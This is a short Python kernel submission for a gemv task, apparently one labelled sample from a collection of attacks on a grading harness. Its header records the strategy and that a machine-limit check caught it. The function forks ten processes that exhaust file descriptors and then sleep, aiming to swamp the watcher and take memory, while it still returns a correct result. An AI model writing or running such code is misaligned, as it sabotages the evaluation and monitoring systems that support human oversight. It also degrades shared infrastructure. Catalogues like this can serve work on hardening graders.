# family: 35
# caught: not_judged.machine_limit: [\s\S]*it was stopped: its processes had more than
# strategy: open so many files in all that whoever watches is busy with them while memory is taken

import os
import time

from gemv import gemv


def custom_kernel(data):
    nothing = os.open(os.devnull, os.O_RDONLY)
    for _ in range(10):
        if os.fork() == 0:
            try:
                while True:
                    os.dup(nothing)
            except OSError:
                time.sleep(3600)
    time.sleep(3)
    return gemv(data)
